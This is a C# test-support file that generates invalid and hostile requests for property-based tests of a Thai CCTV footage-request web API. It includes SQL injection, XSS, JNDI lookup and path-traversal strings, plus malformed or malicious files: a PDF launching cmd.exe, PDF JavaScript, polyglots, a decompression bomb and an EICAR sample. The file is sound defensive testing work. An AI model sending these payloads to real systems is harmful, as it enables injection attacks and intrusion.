using System.Net.Http.Headers;
using System.Text;
using CsCheck;

namespace CctvRequests.TestSupport;

/// <summary>One generated bad call: what it is (for the failure report) and how to make the request.</summary>
public sealed record HostileCase(string Description, Func<HttpRequestMessage> Build)
{
    public override string ToString() => Description;
}

/// <summary>
/// Generators of bad input, each certainly wrong on its own (so the only right answers are 4xx),
/// drawn from a corpus of what attackers and honest mistakes send: wrong check digits, Thai digits,
/// control, bidi and zero-width characters, SQL and script text, huge values, BE years typed as CE
/// and the reverse, impossible dates, wrong magic bytes, truncated files, polyglots, decompression
/// bombs, wrong content types, missing boundaries, unknown and repeated fields.
/// </summary>
public static class HostileInputs
{
    public static readonly string[] Injections =
    [
        "'; DROP TABLE footage_requests; --", "\" OR 1=1 --", "1' OR '1'='1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "{{7*7}}", "${jndi:ldap://example.invalid/a}", "../../etc/passwd", "=HYPERLINK(\"http://x\")", "@SUM(1+1)", "%00", "%s%s%s%n",
    ];

    /// <summary>Characters no free text may hold: control, format (bidi, zero-width, BOM, soft hyphen), line separators.</summary>
    public static readonly string[] Invisible =
    [
        "\0", "\u0001", "\u0007", "\u001b[31m", "\u007f", "\u0085", "\u202E", "\u202D", "\u2066", "\u2069", "\u200B", "\u200D", "\uFEFF", "\u00AD", "\u2028", "\u2029", "\u061C",
    ];

    private static readonly string ThaiDigits = "๐๑๒๓๔๕๖๗๘๙";

    public static Gen<string> Pick(params string[] values) => Gen.Int[0, values.Length - 1].Select(i => values[i]);

    private static Gen<string> Both(Gen<string> a, Gen<string> b) => Gen.Bool.SelectMany(first => first ? a : b);

    /// <summary>Text with one invisible character somewhere in it.</summary>
    private static Gen<string> WithInvisible(string text) =>
        Gen.Select(Pick(Invisible), Gen.Int[0, text.Length], (bad, at) => text.Insert(at, bad));

    /// <summary>A national ID with every check digit but the right one, in ASCII or Thai digits.</summary>
    public static Gen<string> WrongCheckDigit => Gen.Select(Gen.Int[1, 9], Gen.Bool, (shift, thai) =>
    {
        var id = NationalIds.New();
        var wrong = id[..12] + (char)('0' + ((id[12] - '0' + shift) % 10));
        return thai ? new string(wrong.Select(c => ThaiDigits[c - '0']).ToArray()) : wrong;
    });

    private static Gen<string> NotAnId => Both(
        Pick("", " ", "123456789012", "12345678901234", "1-1111-11111-11-1x", "abcdefghijklm", "1111111111111"),
        Pick(Injections));

    private static Gen<string> BadName => Both(
        Gen.Select(Pick("สมศักดิ์", "ใจดี", "John"), Pick("1", "<", ">", ";", "=", "\"", "{", "@", "#", "%", "&", "*", "+", "!", "?", "|", "/", "\\", "\0", "\u202E", "\u200B"),
            Gen.Int[0, 3], (name, bad, at) => name.Insert(Math.Min(at, name.Length), bad)),
        Both(Pick(Injections), Pick("", "   ", new string('ก', 5000))));

    private static Gen<string> BadFreeText(string valid, int max, bool required) => Both(
        WithInvisible(valid),
        required ? Pick(new string('ข', max + 1), new string('x', 5000), "", "  \t ") : Pick(new string('ข', max + 1), new string('x', 5000)));

    private static string Iso(DateOnly date) => date.ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);

    private static Gen<string> BadDate(bool incident) => Pick(
        "2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "27/11/2569", "2026/11/27", "", "yesterday", "๒๕๖๙-๑๑-๒๗",
        Iso(TestClock.Today.AddYears(543)), // a BE year typed where CE was expected: far in the future
        incident ? Iso(TestClock.Today.AddYears(-543)) : Iso(TestClock.Today.AddDays(-400)), // a CE year taken for BE: centuries ago
        Iso(TestClock.Today.AddDays(1)));

    /// <summary>A field set to a value that breaks its rule.</summary>
    private static Gen<(string Field, string Value)> BadField => Gen.OneOf(
        WrongCheckDigit.Select(v => ("nationalId", v)),
        NotAnId.Select(v => ("nationalId", v)),
        BadName.Select(v => ("firstName", v)),
        BadName.Select(v => ("lastName", v)),
        BadName.Select(v => ("title", v)),
        BadFreeText("ไทย", 100, required: true).Select(v => ("nationality", v)),
        BadFreeText("ไทย", 100, required: false).Select(v => ("ethnicity", v)),
        BadFreeText("99 หมู่ 1 ต.ศาลา อ.เกาะคา จ.ลำปาง 52130", 500, required: true).Select(v => ("address", v)),
        BadFreeText("ต้องการขอข้อมูลภาพเหตุการณ์เพื่อค้นหากระเป๋าสตางค์ที่สูญหาย", 2000, required: true).Select(v => ("reason", v)),
        Both(Pick("12", "abcdefghij", "0812345678901234", "1234567890", "", "๐๘๑-๒๓๔"), Pick(Injections)).Select(v => ("phone", v)),
        Pick("-1", "0", "1000", "99999999999999999999", "3.5", "abc", "1e3", "", "35abc", "0x23").Select(v => ("age", v)),
        Pick("Delete", "1", "copy;", "", "View Copy", "VIEW\0").Select(v => ("purpose", v)),
        Pick("0", "-5", "100000", "x", "", "2.5").Select(v => ("fileCount", v)),
        Pick("0", "-1", "99999", "1 OR 1=1", "3; DROP TABLE stations", "", "3.0", "999999999999").Select(v => ("stationId", v)),
        BadDate(incident: false).Select(v => ("writtenOn", v)),
        BadDate(incident: true).Select(v => ("incidentDate", v)),
        Pick("25:00", "14:60", "2pm", "", "14:30:99", "-1:00", "๑๔:๓๐x").Select(v => ("incidentTime", v)),
        Pick("false", "", "no", "0", "on\0").Select(v => ("privacyAccepted", v)),
        Pick("9999-9", "'; --", "", "2569-1\0", new string('1', 300)).Select(v => ("privacyNoticeVersion", v)));

    private static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);

    /// <summary>Files that are not what they claim, or that no officer should open.</summary>
    private static readonly Lazy<byte[]> Bomb = new(() => HostileFiles.DecompressionBomb(inflatedBytes: 64L * 1024 * 1024));

    private static Gen<(string Name, byte[] Content)> BadDocument => Gen.OneOf(
        Gen.Const(("notes.pdf", Utf8("just text, not a PDF"))),
        Gen.Const(("page.pdf", Utf8("<!DOCTYPE html><html><script>alert(1)</script></html>"))),
        Gen.Const(("setup.jpg", (byte[])[0x4D, 0x5A, 0x90, 0, .. Utf8("This program cannot be run in DOS mode")])),
        Gen.Const(("archive.pdf", (byte[])[0x50, 0x4B, 0x03, 0x04, .. new byte[100]])),
        Gen.Const(("anim.png", Utf8("GIF89a....................."))),
        Gen.Const(("cut.pdf", SampleFiles.Pdf()[..^20])),
        Gen.Const(("noise.jpg", (byte[])[0xFF, 0xD8, 0xFF, 0xE0, .. Utf8(new string('z', 500))])),
        Gen.Int[3, 400].Select(cut => ("cut.jpg", SampleFiles.Jpeg()[..cut])),
        Gen.Const(("cut.png", SampleFiles.Png(20, 20, (_, _) => 255)[..40])),
        Gen.Const(("poly.pdf", HostileFiles.Pdf(firstLineComment: "<html><script>alert(1)</script>"))),
        Gen.Const(("js.pdf", HostileFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))),
        Gen.Const(("hidden.pdf", HostileFiles.Pdf(extraObjects: HostileFiles.ObjectStream("7 0 << /S /Launch /F (cmd.exe) >>")))),
        Gen.Const(("huge.jpg", HostileFiles.JpegClaimingHugeSize())),
        Gen.Const(("bomb.png", Bomb.Value)),
        Gen.Const(("eicar.pdf", (byte[])[.. SampleFiles.Pdf(), .. TestClamav.Eicar])));

    private static Gen<(string Name, byte[] Content)> BadSignature => Gen.OneOf(
        Gen.Const(("signature.png", SampleFiles.Jpeg())),
        Gen.Const(("signature.png", SampleFiles.BlankSignature())),
        Gen.Const(("signature.png", SampleFiles.Signature(2001, 120))),
        Gen.Const(("signature.png", Bomb.Value)),
        Gen.Const(("signature.png", Utf8("not an image"))),
        Gen.Const(("signature.png", SampleFiles.Signature()[..60])));

    private static HostileCase Multipart(string description, SubmissionForm form) =>
        new(description, () => new HttpRequestMessage(HttpMethod.Post, "/api/requests") { Content = form.ToContent() });

    /// <summary>One to three bad fields or files on an otherwise good form.</summary>
    private static Gen<HostileCase> BadForm => Gen.Select(
        BadField.Array[0, 3],
        Gen.Int[0, 5],
        BadDocument,
        BadSignature,
        (fields, fileChoice, document, signature) =>
        {
            var form = new SubmissionForm();
            var said = new List<string>();
            foreach (var (name, value) in fields)
            {
                form.Set(name, value);
                said.Add($"{name}={Show(value)}");
            }
            if (fields.Length == 0 || fileChoice <= 1)
            {
                var target = fileChoice switch { 0 => "idCardCopy", 1 => "policeReport", _ => "otherDocuments" };
                if (fields.Length == 0 && fileChoice >= 4)
                {
                    form.Without("signature").WithFile("signature", signature.Name, signature.Content, "image/png");
                    said.Add($"signature={signature.Name} ({signature.Content.Length} bytes)");
                }
                else
                {
                    form.Without(target).WithFile(target, document.Name, document.Content, "application/pdf");
                    said.Add($"{target}={document.Name}");
                }
            }
            return Multipart("form: " + string.Join(", ", said), form);
        });

    /// <summary>Requests that are not the form at all.</summary>
    private static Gen<HostileCase> BadShape => Gen.OneOf(
        Gen.Const(Raw("JSON instead of a form", "application/json", Utf8("{\"firstName\":\"สมศักดิ์\"}"))),
        Gen.Const(Raw("plain text", "text/plain", Utf8("firstName=สมศักดิ์"))),
        Gen.Const(Raw("multipart without a boundary", "multipart/form-data", Utf8("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n"))),
        Gen.Const(Raw("a boundary that is never used", "multipart/form-data; boundary=abc", Utf8("--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--xyz--\r\n"))),
        Gen.Const(Raw("a part without a name", "multipart/form-data; boundary=b", Utf8("--b\r\nContent-Disposition: form-data\r\n\r\nvalue\r\n--b--\r\n"))),
        Gen.Const(Raw("a body cut short", "multipart/form-data; boundary=b", Utf8("--b\r\nContent-Disposition: form-data; name=\"firstName\"\r\n\r\nสม"))),
        Gen.Const(Raw("form-urlencoded", "application/x-www-form-urlencoded", Utf8("firstName=%E0%B8%AA&lastName=x"))),
        Gen.Int[41, 200].Select(n => Multipart($"{n} extra parts", Repeat(new SubmissionForm(), n))),
        Pick("surname", "isAdmin", "status", "referenceNumber", "__proto__", "firstName[]").Select(name => Multipart($"unknown field {name}", Extra(new SubmissionForm(), name, "x"))),
        Pick("firstName", "nationalId", "stationId").Select(name => Multipart($"{name} twice", Extra(new SubmissionForm(), name, "สมชาย"))),
        Gen.Const(Multipart("a field of 5000 characters", new SubmissionForm().Set("reason", new string('ค', 5000)))));

    private static SubmissionForm Extra(SubmissionForm form, string name, string value)
    {
        form.ExtraParts.Add((name, value));
        return form;
    }

    private static SubmissionForm Repeat(SubmissionForm form, int parts)
    {
        for (var i = 0; i < parts; i++)
        {
            form.ExtraParts.Add(($"x{i}", "1"));
        }
        return form;
    }

    private static HostileCase Raw(string description, string contentType, byte[] body) => new(description, () =>
    {
        var content = new ByteArrayContent(body);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return new HttpRequestMessage(HttpMethod.Post, "/api/requests") { Content = content };
    });

    /// <summary>Bad submissions: mostly a good form with bad parts, sometimes not a form at all.</summary>
    public static Gen<HostileCase> Submissions => Gen.Frequency((5, BadForm), (1, BadShape));

    private static HostileCase Json(string path, string description, string json, string contentType = "application/json") => new(description, () =>
    {
        var content = new StringContent(json, Encoding.UTF8);
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
        return new HttpRequestMessage(HttpMethod.Post, path) { Content = content };
    });

    private static string Quote(string s) => System.Text.Json.JsonSerializer.Serialize(s);

    /// <summary>Bad lookups by national ID or passport.</summary>
    public static Gen<HostileCase> Lookups => Gen.OneOf(
        Both(WrongCheckDigit, NotAnId).Select(id => Json("/api/status/lookup", $"nationalId={Show(id)}", $"{{\"nationalId\":{Quote(id)}}}")),
        Gen.Select(Pick("AB#1", "", "X", new string('A', 60), "'; --"), Pick("GBR", "XYZ", "THA", "", "gb"),
            (number, country) => Json("/api/status/lookup", $"passport {Show(number)}/{country}", $"{{\"passportNumber\":{Quote(number)},\"passportCountry\":{Quote(country)}}}")),
        Pick("1", "true", "null", "[1,2]", "{\"a\":1}", "1.5e300", "-0").Select(v => Json("/api/status/lookup", $"nationalId as {v}", $"{{\"nationalId\":{v}}}")),
        Pick("{", "", "[", "null", "\"just a string\"", "{\"nationalId\":\"1\",}", "{'nationalId':'1'}").Select(body => Json("/api/status/lookup", $"body {Show(body)}", body)),
        Gen.Int[65, 400].Select(depth => Json("/api/status/lookup", $"nested {depth} deep", $"{{\"nationalId\":{new string('[', depth)}{new string(']', depth)}}}")),
        Gen.Const(Json("/api/status/lookup", "a form body", "nationalId=1", "application/x-www-form-urlencoded")),
        Gen.Const(Json("/api/status/lookup", "both documents", $"{{\"nationalId\":{Quote(NationalIds.New())},\"passportNumber\":\"XK1234567\",\"passportCountry\":\"GBR\"}}")));

    /// <summary>Bad status-link tokens.</summary>
    public static Gen<HostileCase> Tokens => Gen.OneOf(
        Both(Pick(Injections), Pick(Invisible)).Select(t => Json("/api/status/token", $"token {Show(t)}", $"{{\"token\":{Quote(t)}}}")),
        Gen.Int[0, 3000].Select(n => Json("/api/status/token", $"token of {n} characters", $"{{\"token\":{Quote(new string('A', n))}}}")),
        Pick("1", "null", "[]", "{}").Select(v => Json("/api/status/qr", $"qr token as {v}", $"{{\"token\":{v}}}")),
        Pick("{", "", "nonsense").Select(body => Json("/api/status/qr", $"qr body {Show(body)}", body)));

    /// <summary>A value as text a person can read in a failure report (invisible characters named).</summary>
    public static string Show(string value)
    {
        var shown = new StringBuilder();
        foreach (var c in value.Length > 60 ? value[..60] + "…" : value)
        {
            shown.Append(char.IsControl(c) || char.GetUnicodeCategory(c) == System.Globalization.UnicodeCategory.Format ? $"\\u{(int)c:X4}" : c.ToString());
        }
        return $"\"{shown}\"" + (value.Length > 60 ? $" ({value.Length} chars)" : string.Empty);
    }
}
